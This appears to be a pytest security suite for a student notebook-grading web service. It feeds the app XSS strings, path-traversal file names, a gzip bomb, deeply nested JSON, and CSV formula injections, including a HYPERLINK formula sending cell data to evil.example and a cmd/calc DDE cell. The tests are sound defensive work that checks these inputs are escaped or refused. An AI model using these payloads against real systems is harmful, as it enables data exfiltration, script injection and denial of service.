"""Hostile input at every door: the real app (Flask test client), the real grading function, the real sandbox.

Each test is one attack of ``docs/security.md``: stored XSS, path traversal in
file names, oversized, nested and compressed bodies, a notebook with 100 MB
of outputs, spreadsheet formulas in exports, one student reaching another's
results (IDOR), and every kind of bad token.
"""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import json
import os
from collections.abc import Iterator
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any

import nbformat
import nbformat.v4 as nbf
import pytest
from click.testing import CliRunner
from sqlalchemy import select
from test_web_helpers import SIGN_ERROR, bearer, fake_grade_notebook, make_app, notebook_bytes

from grader.contract import NotebookResult, Result
from grader.notebooks.batch import MAX_NOTEBOOK_BYTES, grade_notebook
from grader.notebooks.generate import student_notebook, variable_name
from grader.reports import exports
from grader.reports.exports import FORMULA_START
from grader.reports.feedback import feedback_html
from grader.sandbox import Sandbox
from grader.store import submissions
from grader.store.models import Submission, Token
from grader.store.users import add_user, revoke
from grader.web.service import upload_name

pytest_plugins = ["test_web_helpers"]  # the shared fixtures

SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
IMG = '<img src=x onerror="alert(2)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
CORRECT_ITERATES = [4, 2, 1, 0.5, 0.25, 0.125]


@pytest.fixture
def real_app(sqlite_db: Any, catalog: Any, sandbox: Sandbox) -> Iterator[Any]:
    """The service with the real notebook grader (the real sandbox) behind its job queue."""
    application = make_app(sqlite_db, catalog, NOTEBOOK_GRADER=partial(grade_notebook, sandbox=sandbox))
    yield application
    application.extensions["grader"].jobs.shutdown(wait=True)


def _login(client: Any, token: str) -> None:
    client.delete_cookie("grader_token")
    assert client.post("/login", data={"token": token}).status_code == 303


def _wait(app: Any) -> None:
    app.extensions["grader"].jobs.wait(timeout=60)


def _notebook(catalog: Any, assignment: str, student: str | None, **sources: str) -> Any:
    """The generated notebook with the given cells' sources (variable name → source); others left as generated."""
    node = student_notebook(catalog, assignment, student)
    for cell in node.cells:
        meta = cell.get("metadata", {}).get("grader", {})
        if cell.cell_type == "code" and "part" in meta:
            name = variable_name(meta["exercise"], meta["part"])
            if name in sources:
                cell.source = sources[name]
    return node


def _inert(text: str, *raw: str) -> None:
    for needle in raw:
        assert needle not in text, f"{needle!r} reached the page unescaped"


def _stored_count(app: Any) -> int:
    return submissions.count(app.extensions["grader"].db)


# Stored XSS --------------------------------------------------------------------------------------


def test_free_text_answer_with_a_script_is_inert_in_pages_and_feedback_files(
    app: Any, client: Any, tokens: dict, catalog: Any
) -> None:
    answers = {"learning-rate": {"why": SCRIPT, "converges": SCRIPT, "classify": SCRIPT}}
    graded = client.post("/api/grade", json={"answers": answers}, headers=bearer(tokens["s001"]))
    assert graded.status_code == 200
    assert SCRIPT in json.dumps(graded.json)  # the feedback quotes what the student typed: data, in JSON

    _login(client, tokens["s001"])
    page = client.post("/exercises/learning-rate", data={f"part-{p}": SCRIPT for p in answers["learning-rate"]})
    assert page.status_code == 200
    _inert(page.get_data(as_text=True), SCRIPT)
    assert ESCAPED in page.get_data(as_text=True)
    _inert(client.get("/submissions").get_data(as_text=True), SCRIPT)

    _login(client, tokens["ta"])
    for url in ("/instructor", "/instructor/exercises/learning-rate"):
        response = client.get(url)
        assert response.status_code == 200
        _inert(response.get_data(as_text=True), SCRIPT, "<script>alert")

    result = client.get(f"/api/submissions/{graded.json['submission']}", headers=bearer(tokens["ta"])).json["result"]
    page = feedback_html(Result.from_json(result), catalog)
    _inert(page, SCRIPT)
    assert ESCAPED in page


def test_html_in_a_student_name_or_id_is_escaped(app: Any, client: Any, tokens: dict, catalog: Any) -> None:
    db = app.extensions["grader"].db
    token = add_user("s003", display_name=IMG, db=db)
    assert client.post("/api/grade", json={"answers": {"gd-parabola": {"iterates": SIGN_ERROR}}}, headers=bearer(token))
    _login(client, tokens["instructor"])
    for url in ("/instructor", "/instructor/exercises/gd-parabola"):
        body = client.get(url).get_data(as_text=True)
        _inert(body, IMG, "<img src=x")
    assert "&lt;img src=x onerror=&#34;alert(2)&#34;&gt;" in client.get("/instructor").get_data(as_text=True)
    # An id is letters, digits and . _ @ + -: HTML cannot even be a student id over HTTP.
    refused = client.post("/api/grade", json={"student": IMG, "answers": {}}, headers=bearer(tokens["ta"]))
    assert refused.status_code == 400 and refused.json["error"] == "invalid_submission"
    # A notebook graded from the command line may name anyone: the name becomes an id, no HTML left.
    result = grade_notebook_result(catalog, student=IMG)
    assert result.student == "img_src_x_onerror_alert_2"
    page = feedback_html(result, catalog)
    _inert(page, IMG, "<img src=x")
    # and a result that still names someone with HTML (an older export) is escaped in the page
    page = feedback_html(replace(result, student=IMG), catalog)
    _inert(page, IMG, "<img src=x")
    assert "<title>Feedback for &lt;img" in page


def grade_notebook_result(catalog: Any, student: str, sandbox: Any = None) -> NotebookResult:
    node = _notebook(catalog, "lec4-inclass", student, gd_parabola_iterates=f"gd_parabola_iterates = {SIGN_ERROR!r}")
    return grade_notebook(nbformat.writes(node).encode(), "nb.ipynb", catalog, sandbox=sandbox)


def test_a_notebook_that_prints_and_returns_html_is_inert(real_app: Any, tokens: dict, catalog: Any) -> None:
    """Printed HTML is never read; HTML it binds, raises or displays is data, escaped wherever it is shown."""
    client = real_app.test_client()
    node = _notebook(
        catalog,
        "lec4-inclass",
        "s001",
        gd_parabola_iterates=(
            "from IPython.display import HTML, display\n"
            "print('<script>alert(3)</script>')\n"
            "display(HTML('<script>alert(4)</script>'))\n"
            f"gd_parabola_iterates = {SCRIPT!r}"
        ),
        learning_rate_why=f"learning_rate_why = {SCRIPT!r}\nraise ValueError({IMG!r})",
    )
    response = client.post(
        "/api/submissions",
        data={"notebook": (io.BytesIO(nbformat.writes(node).encode()), "s001.ipynb")},
        headers=bearer(tokens["s001"]),
        content_type="multipart/form-data",
    )
    assert response.status_code == 202
    _wait(real_app)
    stored = client.get(response.json["url"], headers=bearer(tokens["s001"])).json
    assert stored["status"] == "done", stored
    result = stored["result"]
    text = json.dumps(result)
    assert "alert(3)" not in text and "alert(4)" not in text  # output is never read back
    assert any(IMG in e["evalue"] for e in result["cell_errors"])  # the raised message is kept as data

    page = feedback_html(NotebookResult.from_json(result), catalog, lambda e, p: result["answers"].get(e, {}).get(p))
    _inert(page, SCRIPT, IMG, "<script>alert", "<img src=x")
    assert "&lt;img src=x" in page and ESCAPED in page

    _login(client, tokens["s001"])
    _inert(client.get("/submissions").get_data(as_text=True), SCRIPT, IMG)
    _login(client, tokens["ta"])
    for url in ("/instructor", "/instructor/exercises/gd-parabola", "/instructor/exercises/learning-rate"):
        _inert(client.get(url).get_data(as_text=True), SCRIPT, IMG, "<script>alert", "<img src=x")


# Path traversal in uploaded file names -----------------------------------------------------------

HOSTILE_NAMES = {  # as uploaded → as stored (a label: the last component, control characters replaced)
    "../../etc/passwd.ipynb": "passwd.ipynb",
    "/etc/passwd.ipynb": "passwd.ipynb",
    "s001\x00.ipynb": "s001_.ipynb",
    "evil\x00/../../../tmp/x.ipynb": "x.ipynb",
    "./../s002.ipynb": "s002.ipynb",
    "\u202egnp.ipynb": "_gnp.ipynb",
}


def test_upload_name_keeps_only_a_label() -> None:
    """Backslash paths (which a multipart parser may already have unescaped) and names that are all dots too."""
    assert upload_name("..\\..\\windows\\win.ini.ipynb") == "win.ini.ipynb"
    assert upload_name("C:\\Users\\s001\\hw.ipynb") == "hw.ipynb"
    assert upload_name("..") == upload_name("") == upload_name(None) == upload_name("/") == "notebook.ipynb"
    assert upload_name("a\x1b[31m.ipynb") == "a_[31m.ipynb"
    assert upload_name("x" * 300 + ".ipynb") == "x" * 249 + ".ipynb"
    for name in HOSTILE_NAMES:
        assert upload_name(name) == HOSTILE_NAMES[name]


def _upload(client: Any, token: str, name: str, data: bytes, **form: str) -> Any:
    return client.post(
        "/api/submissions",
        data={**form, "notebook": (io.BytesIO(data), name)},
        headers=bearer(token),
        content_type="multipart/form-data",
    )


def _files_under(*folders: Path) -> set[Path]:
    return {p for folder in folders for p in folder.rglob("*")}


def _check_names_are_labels(app: Any, tokens: dict, seen: list[str], tmp_path: Path) -> None:
    client = app.test_client()
    before = _files_under(tmp_path, Path.cwd())
    escapes = (Path("/etc/passwd.ipynb"), Path("/tmp/x.ipynb"))
    already = {path: path.stat().st_mtime_ns for path in escapes if path.exists()}  # another program's file
    for name in HOSTILE_NAMES:
        response = _upload(client, tokens["ta"], name, notebook_bytes({}), student="s001")
        assert response.status_code == 202, (name, response.json)
        _wait(app)
        stored = client.get(response.json["url"], headers=bearer(tokens["ta"])).json
        assert stored["status"] == "done" and stored["student"] == "s001"
        assert stored["filename"] == HOSTILE_NAMES[name], name
    assert seen == list(HOSTILE_NAMES.values())  # the notebook grader is handed the label, too
    new = {p for p in _files_under(tmp_path, Path.cwd()) - before if "-wal" not in p.name and "-shm" not in p.name}
    assert new <= {tmp_path / "grader.db.write-lock"}, new  # nothing was written under the uploaded names
    assert {path: path.stat().st_mtime_ns for path in escapes if path.exists()} == already  # none written


def _recording_grader(seen: list[str]) -> Any:
    def grader(data: bytes, filename: str, catalog: Any, **kwargs: Any) -> dict[str, Any]:
        seen.append(filename)
        return fake_grade_notebook(data, filename, catalog, **kwargs)

    return grader


def test_uploaded_file_names_are_labels_never_paths(sqlite_db: Any, catalog: Any, tmp_path: Path) -> None:
    seen: list[str] = []
    app = make_app(sqlite_db, catalog, NOTEBOOK_GRADER=_recording_grader(seen))
    db = app.extensions["grader"].db
    tokens = {"ta": add_user("ta1", "ta", db=db)}
    add_user("s001", db=db)
    try:
        _check_names_are_labels(app, tokens, seen, tmp_path)
    finally:
        app.extensions["grader"].jobs.shutdown(wait=True)


def test_file_names_with_nul_bytes_are_stored_on_postgresql(pg_db: Any, catalog: Any, tmp_path: Path) -> None:
    """PostgreSQL refuses NUL in text: a name with one was a 500 before names were cleaned."""
    seen: list[str] = []
    app = make_app(pg_db, catalog, NOTEBOOK_GRADER=_recording_grader(seen))
    tokens = {"ta": add_user("ta1", "ta", db=pg_db)}
    add_user("s001", db=pg_db)
    try:
        _check_names_are_labels(app, tokens, seen, tmp_path)
    finally:
        app.extensions["grader"].jobs.shutdown(wait=True)


def test_a_student_token_cannot_upload_as_someone_else_by_file_name(client: Any, tokens: dict) -> None:
    for name in ("s002.ipynb", "../s002/s002.ipynb", "/home/s002/s002.ipynb"):
        response = _upload(client, tokens["s001"], name, notebook_bytes({}, grader={"student": "s002"}))
        assert response.status_code == 202
        stored = client.get(response.json["url"], headers=bearer(tokens["s001"])).json
        assert stored["student"] == "s001"


def test_feedback_files_from_the_command_line_stay_in_their_folder(catalog: Any, tmp_path: Path) -> None:
    from grader.cli.notebooks import grade

    folder = tmp_path / "class"
    folder.mkdir()
    for i, student in enumerate(["../../../escaped", "/tmp/absolute", "..", "a/../../b", "x\x00y"]):
        node = _notebook(catalog, "lec4-inclass", student)
        nbformat.write(node, str(folder / f"n{i}.ipynb"))
    out = tmp_path / "feedback" / "inner"
    result = CliRunner().invoke(
        grade, [str(folder), "--feedback", str(out), "--format", "json"], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    written = sorted(p for p in tmp_path.rglob("*.html"))
    assert len(written) == 5
    assert all(p.parent == out for p in written), written
    assert not Path("/tmp/absolute.html").exists()


# Oversized, nested and compressed bodies ----------------------------------------------------------


def test_json_over_the_upload_limit_is_a_413_in_json(sqlite_db: Any, catalog: Any) -> None:
    app = make_app(sqlite_db, catalog)  # the default limit: 5 MB
    client = app.test_client()
    token = add_user("s001", db=app.extensions["grader"].db)
    body = json.dumps({"answers": {"gd-parabola": {"iterates": "1, " * (2 * 1024 * 1024)}}}).encode()
    assert len(body) > app.config["MAX_CONTENT_LENGTH"]
    for url in ("/api/grade", "/api/submissions"):
        response = client.post(url, data=body, content_type="application/json", headers=bearer(token))
        assert response.status_code == 413
        assert response.json["error"] == "payload_too_large" and "0.25 MB" in response.json["detail"]  # JSON's own
    # Without a Content-Length (a chunked upload), the limit holds while reading.
    chunked = client.post(
        "/api/grade",
        input_stream=io.BytesIO(body),
        content_type="application/json",
        headers=bearer(token),
        environ_overrides={"wsgi.input_terminated": True},
    )
    assert chunked.status_code == 413 and chunked.json["error"] == "payload_too_large"
    assert _stored_count(app) == 0
    app.extensions["grader"].jobs.shutdown(wait=True)


def test_a_json_submission_has_its_own_smaller_limit(client: Any, tokens: dict) -> None:
    """Typed answers need a few KB; 300 KB of formulas is only a cost to parse, store and check."""
    body = json.dumps({"answers": {"gd-parabola": {"iterates": ["sqrt(2)"] * 30_000}}}).encode()
    assert 256 * 1024 < len(body) < 5 * 1024 * 1024
    for url in ("/api/grade", "/api/submissions"):
        response = client.post(url, data=body, content_type="application/json", headers=bearer(tokens["s001"]))
        assert response.status_code == 413 and "0.25 MB" in response.json["detail"]


def test_forms_with_too_many_or_too_large_fields_are_a_413_in_json(client: Any, tokens: dict) -> None:
    many = {f"field{i}": "x" for i in range(1001)}
    large = {"student": "s" * 600_000}
    for fields in (many, large):
        response = client.post(
            "/api/submissions",
            data={**fields, "notebook": (io.BytesIO(notebook_bytes({})), "s001.ipynb")},
            headers=bearer(tokens["ta"]),
            content_type="multipart/form-data",
        )
        assert response.status_code == 413 and response.json["error"] == "payload_too_large"


@pytest.mark.parametrize(
    "body",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"answers": {"gd-parabola": {"iterates": ' + b"[" * 100_000 + b"]" * 100_000 + b"}}}",
        b'{"answers": {"gd-parabola": {"iterates": ' + b"[" * 300 + b"]" * 300 + b"}}}",  # once a 500
        b'{"answers": {"learning-rate": {"why": ' + b'{"a": ' * 500 + b"1" + b"}" * 500 + b"}}}",
    ],
    ids=["100000-lists", "100000-in-an-answer", "300-in-an-answer", "500-objects"],
)
def test_deeply_nested_json_is_a_400_in_json(app: Any, client: Any, tokens: dict, body: bytes) -> None:
    for url in ("/api/grade", "/api/submissions"):
        response = client.post(url, data=body, content_type="application/json", headers=bearer(tokens["s001"]))
        assert response.status_code == 400, response.get_data()[:200]
        assert response.json["error"] == "bad_request"
        assert "nested" in response.json["detail"] or "depth limit" in response.json["detail"]
    assert _stored_count(app) == 0


def test_compressed_bodies_are_refused_never_inflated(app: Any, client: Any, tokens: dict) -> None:
    """No route inflates a body: gzip, deflate or br is a 415, even for a bomb; nothing is stored."""
    submission = json.dumps({"answers": {"gd-parabola": {"iterates": CORRECT_ITERATES}}}).encode()
    bomb = gzip.compress(b"[" + b"0," * (50 * 1024 * 1024) + b"0]", compresslevel=9)  # 100 MB inflated
    assert len(bomb) < 200_000
    for encoding, body in (("gzip", gzip.compress(submission)), ("gzip", bomb), ("deflate", b"x"), ("br", b"x")):
        for url in ("/api/grade", "/api/submissions"):
            response = client.post(
                url,
                data=body,
                content_type="application/json",
                headers={**bearer(tokens["s001"]), "Content-Encoding": encoding},
            )
            assert response.status_code == 415 and response.json["error"] == "unsupported_media_type"
            assert "compressed" in response.json["detail"]
    # A compressed or zipped file in a notebook upload is just bytes that are not a notebook.
    for data in (gzip.compress(notebook_bytes({})), b"PK\x03\x04" + bytes(100)):
        upload = _upload(client, tokens["s001"], "s001.ipynb", data)
        assert upload.status_code == 400 and upload.json["error"] == "bad_request"
    assert (
        client.post(
            "/api/grade",
            data=submission,
            content_type="application/json",
            headers={**bearer(tokens["s001"]), "Content-Encoding": "identity"},
        ).status_code
        == 200
    )
    assert _stored_count(app) == 1  # only the plain one


# A notebook with 100 MB of outputs ------------------------------------------------------------------


def _with_outputs(node: Any, size: int, code: str) -> bytes:
    """``node`` as a file of ``size`` bytes or a little less, its first code cell carrying stream outputs
    (``code`` as text, many times) and an HTML output (built as text: nbformat would take seconds)."""
    cell = next(c for c in node.cells if c.cell_type == "code")
    cell.outputs = [nbf.new_output("display_data", data={"text/html": SCRIPT}), "@@outputs@@"]
    text = json.dumps(node, indent=1)
    one = json.dumps(nbf.new_output("stream", name="stdout", text=(code + "\n") * 200)) + ","
    count = (size - len(text.encode())) // len(one.encode())
    data = text.replace('"@@outputs@@"', (one * count).rstrip(",")).encode()
    assert size - 2 * len(one) < len(data) <= size
    return data


def test_a_notebook_with_100_mb_of_outputs_is_refused_by_the_upload_limit(sqlite_db: Any, catalog: Any) -> None:
    app = make_app(sqlite_db, catalog)
    client = app.test_client()
    token = add_user("s001", db=app.extensions["grader"].db)
    data = _with_outputs(student_notebook(catalog, "lec4-inclass", "s001"), 100 * 1024 * 1024, "x = 1")
    assert len(data) > 100 * 1000 * 1000
    response = _upload(client, token, "s001.ipynb", data)
    assert response.status_code == 413 and response.json["error"] == "payload_too_large"
    assert _stored_count(app) == 0
    app.extensions["grader"].jobs.shutdown(wait=True)


def test_outputs_are_never_run_and_cost_little_from_the_command_line(
    catalog: Any, sandbox: Sandbox, tmp_path: Path
) -> None:
    canary = tmp_path / "outputs-ran"
    hostile = f"open({str(canary)!r}, 'w').write('ran'); gd_parabola_iterates = [0, 0, 0, 0, 0, 0]"
    node = _notebook(
        catalog, "lec4-inclass", "s001", gd_parabola_iterates=f"gd_parabola_iterates = {CORRECT_ITERATES!r}"
    )
    data = _with_outputs(node, MAX_NOTEBOOK_BYTES - 200_000, hostile)
    assert MAX_NOTEBOOK_BYTES - 400_000 < len(data) <= MAX_NOTEBOOK_BYTES
    result = grade_notebook(data, "s001.ipynb", catalog, sandbox=sandbox).to_json()
    assert result["graded"] and result["error"] is None
    iterates = next(p for e in result["exercises"] for p in e["parts"] if p["id"] == "iterates")
    assert iterates["status"] == "correct"  # the answer from the code, not the 0s in the outputs
    assert not canary.exists()
    page = feedback_html(NotebookResult.from_json(result), catalog)
    _inert(page, SCRIPT)


# CSV formula injection ------------------------------------------------------------------------------


def _unsafe_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row if cell.startswith(FORMULA_START)]


def test_formulas_in_ids_names_and_answers_never_reach_a_spreadsheet(
    app: Any, client: Any, tokens: dict, catalog: Any, sandbox: Sandbox
) -> None:
    db = app.extensions["grader"].db
    refused = client.post("/api/grade", json={"student": HYPERLINK, "answers": {}}, headers=bearer(tokens["ta"]))
    assert refused.status_code == 400  # not an id
    named = add_user("s003", display_name=HYPERLINK, db=db)
    answers = {"learning-rate": {"why": HYPERLINK, "converges": HYPERLINK}, "gd-parabola": {"iterates": HYPERLINK}}
    for token in (tokens["s001"], named):
        assert client.post("/api/grade", json={"answers": answers}, headers=bearer(token)).status_code == 200
    exported = client.get("/api/gradebook.csv", headers=bearer(tokens["ta"])).get_data(as_text=True)
    _login(client, tokens["ta"])
    page_export = client.get("/instructor/gradebook.csv").get_data(as_text=True)
    for text in (exported, page_export):
        assert _unsafe_cells(text) == []
        assert "'" + HYPERLINK in [cell for row in csv.reader(io.StringIO(text)) for cell in row]  # kept, as text

    # The command line's exports: a notebook naming the student with a formula, answering with one.
    node = _notebook(
        catalog,
        "lec4-inclass",
        HYPERLINK,
        learning_rate_why=f"learning_rate_why = {HYPERLINK!r}",
        gd_parabola_iterates=f"gd_parabola_iterates = {HYPERLINK!r}\nraise ValueError({HYPERLINK!r})",
    )
    result = grade_notebook(nbformat.writes(node).encode(), f"{HYPERLINK}.ipynb", catalog, sandbox=sandbox)
    failed = NotebookResult.failed("@SUM(1).ipynb", "+cmd|' /C calc'!A0", "-2+3", graded=True)
    text = exports.results_csv([result, failed])
    assert _unsafe_cells(text) == []
    rows = list(csv.reader(io.StringIO(text)))
    # the name became an id (as on every path); the file name stays as it was, as text
    assert rows[1][0] == "HYPERLINK_http_evil.example_A1_click" and rows[1][1] == f"'{HYPERLINK}.ipynb"


# One student reaching another's results (IDOR) -----------------------------------------------------


def test_a_student_cannot_read_or_write_another_students_results_through_any_route(
    app: Any, client: Any, tokens: dict, catalog: Any
) -> None:
    mine, theirs = bearer(tokens["s001"]), bearer(tokens["s002"])
    answer = {"answers": {"gd-parabola": {"iterates": SIGN_ERROR}}}
    their_id = client.post("/api/grade", json=answer, headers=theirs).json["submission"]
    queued = _upload(client, tokens["s002"], "s002.ipynb", notebook_bytes({}))
    their_notebook = queued.json["id"]
    _wait(app)
    before = client.get("/api/students/s002/submissions", headers=bearer(tokens["ta"])).json["submissions"]
    other = {"student": "s002", **answer}

    # reading
    for submission_id in (their_id, their_notebook):
        response = client.get(f"/api/submissions/{submission_id}", headers=mine)
        assert response.status_code == 404 and response.json["error"] == "not_found"
    for submission_id in (their_id, "0" * 32):  # anonymous: the same 401 whether the id exists or not
        assert client.get(f"/api/submissions/{submission_id}").status_code == 401
    for url in ("/api/students/s002/submissions", "/api/students/s002/submissions?limit=1"):
        assert client.get(url, headers=mine).status_code == 403
    assert client.get("/api/exercises/gd-parabola?student=s002", headers=mine).status_code == 403
    for url in ("/api/gradebook", "/api/gradebook.csv", "/api/analytics/gd-parabola"):
        assert client.get(url, headers=mine).status_code == 403

    # writing
    assert client.post("/api/grade", json=other, headers=mine).status_code == 403
    assert client.post("/api/submissions", json=other, headers=mine).status_code == 403
    assert _upload(client, tokens["s001"], "n.ipynb", notebook_bytes({}), student="s002").status_code == 403
    for method in ("put", "patch", "delete"):
        response = getattr(client, method)(f"/api/submissions/{their_id}", json=answer, headers=mine)
        assert response.status_code == 405

    # pages: a form field naming someone else is ignored, staff pages are closed
    _login(client, tokens["s001"])
    page = client.post("/exercises/gd-parabola", data={"student": "s002", "part-iterates": SIGN_ERROR})
    assert page.status_code == 200
    assert client.get("/instructor").status_code == 403
    assert client.get("/instructor/gradebook.csv").status_code == 403
    assert client.get("/instructor/exercises/gd-parabola").status_code == 403
    history = client.get("/submissions").get_data(as_text=True)
    assert their_id not in history and their_notebook not in history

    after = client.get("/api/students/s002/submissions", headers=bearer(tokens["ta"])).json["submissions"]
    assert after == before  # nothing of s002's was added or changed
    own = client.get("/api/students/s001/submissions", headers=mine).json["submissions"]
    assert {s["student"] for s in own} == {"s001"} and len(own) == 1


# Tokens -------------------------------------------------------------------------------------------


@pytest.fixture
def bad_headers(app: Any) -> dict[str, dict[str, str]]:
    db = app.extensions["grader"].db
    expired = add_user("s005", expires_in_days=-1, db=db)
    revoked = add_user("s006", db=db)
    revoke("s006", db=db)
    return {
        "wrong": bearer("gr_" + "A" * 43),
        "expired": bearer(expired),
        "revoked": bearer(revoked),
        "missing": {},
        "empty bearer": {"Authorization": "Bearer"},
        "blank bearer": {"Authorization": "Bearer    "},
        "basic scheme": {"Authorization": "Basic czAwMTpzZWNyZXQ="},
        "no scheme": {"Authorization": expired},
        "two tokens": {"Authorization": f"Bearer {expired} {revoked}"},
        "very long": bearer("gr_" + "x" * 100_000),
        "latin-1 bytes": {"Authorization": "Bearer gr_\xff\xfe\xe9"},
        "control characters": {"Authorization": "Bearer gr_\x01\x7f"},
    }


PROTECTED = [
    ("POST", "/api/grade"),
    ("POST", "/api/submissions"),
    ("GET", "/api/students/s001/submissions"),
    ("GET", "/api/gradebook"),
    ("GET", "/api/gradebook.csv"),
    ("GET", "/api/analytics/gd-parabola"),
]


def test_every_bad_token_is_a_401_in_json(app: Any, client: Any, tokens: dict, bad_headers: dict) -> None:
    submission_id = client.post(
        "/api/grade", json={"answers": {"gd-parabola": {"iterates": SIGN_ERROR}}}, headers=bearer(tokens["s001"])
    ).json["submission"]
    routes = [*PROTECTED, ("GET", f"/api/submissions/{submission_id}")]
    for name, headers in bad_headers.items():
        for method, url in routes:
            response = client.open(
                url, method=method, json={"answers": {}} if method == "POST" else None, headers=headers
            )
            assert response.status_code == 401, (name, url, response.status_code)
            assert response.json["error"] == "unauthorized" and response.json["detail"], (name, url)
            assert response.headers["WWW-Authenticate"].startswith("Bearer"), (name, url)
    assert _stored_count(app) == 1


@pytest.mark.filterwarnings("ignore:The 'grader_token' cookie is too large")  # that is the point
def test_a_bad_login_cookie_is_a_login_page_not_an_error(client: Any, bad_headers: dict) -> None:
    for name, headers in bad_headers.items():
        token = headers.get("Authorization", "").removeprefix("Bearer ").strip() or "x"
        client.set_cookie("grader_token", token.encode("latin-1", "replace").decode("latin-1"))
        response = client.get("/instructor")
        assert response.status_code == 303 and "/login" in response.headers["Location"], name


# Secrets and what an error shows -------------------------------------------------------------------


def test_tokens_are_stored_hashed_and_no_answer_shows_a_secret(sqlite_db: Any, catalog: Any) -> None:
    secret = "course-secret-" + os.urandom(8).hex()
    app = make_app(sqlite_db, catalog, SECRET_KEY=secret)
    client = app.test_client()
    db = app.extensions["grader"].db
    issued = {"s001": add_user("s001", db=db), "prof": add_user("prof", "instructor", db=db)}
    with db.read() as session:
        stored = {row.token_hash for row in session.scalars(select(Token))}
    assert stored == {hashlib.sha256(t.encode()).hexdigest() for t in issued.values()}
    with db.read() as session:
        for row in session.scalars(select(Submission)):
            assert all(t.encode() not in row.payload for t in issued.values())

    client.post(
        "/api/grade", json={"answers": {"gd-parabola": {"iterates": SIGN_ERROR}}}, headers=bearer(issued["s001"])
    )
    _login(client, issued["prof"])
    urls = ["/openapi.json", "/healthz", "/api/exercises", "/api/gradebook", "/api/gradebook.csv",
            "/api/students/s001/submissions", "/api/analytics/gd-parabola", "/", "/instructor",
            "/instructor/exercises/gd-parabola", "/exercises/gd-parabola", "/api/nothing", "/login"]  # fmt: skip
    for url in urls:
        body = client.get(url, headers=bearer(issued["prof"])).get_data(as_text=True)
        assert secret not in body and issued["prof"] not in body and issued["s001"] not in body, url

    # An unexpected error is a JSON 500 that names no code, path or exception.
    app.extensions["grader"].catalog = None
    app.testing = False
    app.config["PROPAGATE_EXCEPTIONS"] = False
    for method, url in (("POST", "/api/grade"), ("GET", "/exercises/gd-parabola"), ("GET", "/")):
        body = {"answers": {"gd-parabola": {"iterates": "4"}}} if method == "POST" else None
        response = client.open(url, method=method, json=body, headers=bearer(issued["s001"]))
        body = response.get_data(as_text=True)
        assert response.status_code == 500 and response.json == {
            "error": "internal_error",
            "detail": "the server hit an unexpected error; it has been logged",
        }
        assert "Traceback" not in body and "grader/" not in body and "AttributeError" not in body
    app.extensions["grader"].jobs.shutdown(wait=True)
